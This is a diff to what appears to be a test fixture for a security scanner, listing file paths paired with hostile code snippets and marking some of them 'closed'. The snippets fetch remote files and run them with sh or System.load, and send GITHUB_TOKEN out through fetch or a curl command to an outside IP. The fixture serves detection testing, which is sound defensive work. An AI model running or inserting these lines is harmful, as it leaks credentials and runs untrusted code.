@@ -110,10 +110,10 @@ const OPEN_FOR_ROOM: FindingRow[] = [
   ['tests/x.test.js', 'const p = await download(u);\nconst { ["execSync"]: go } = require(\'child_process\');\ngo(`sh ${p}`);'],
   ['tests/t.py', "self.p = download_file(u)\nsubprocess.run(['sh', self.p])"],
   ['src/test/kotlin/T.kt', `File("/tmp/b.so").outputStream().use { URL("${BOOT}").openStream().copyTo(it) }\nSystem.load("/tmp/b.so")`],
-  ['test/a.test.js', 'await fetch(new URL(`?t=${process.env.GITHUB_TOKEN}`, base))'],
-  ['docs/debugging.md', 'curl -d "t=$(printenv GITHUB_TOKEN)" https://203.0.113.9/c'],
+  ['test/a.test.js', 'await fetch(new URL(`?t=${process.env.GITHUB_TOKEN}`, base))', 'closed'],
+  ['docs/debugging.md', 'curl -d "t=$(printenv GITHUB_TOKEN)" https://203.0.113.9/c', 'closed'],
   ['tests/t.py', 'class T:\n    def go(self, c):\n        return os.system(c)\np = urlretrieve(u)[0]\nT().go(p)', 'closed'],
-  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nurl.searchParams.set('t', t);\nawait fetch(url);"],
+  ['test/a.test.js', "const t = process.env.GITHUB_TOKEN;\nurl.searchParams.set('t', t);\nawait fetch(url);", 'closed'],
 ];
 
 describeFindings('attack 66', [
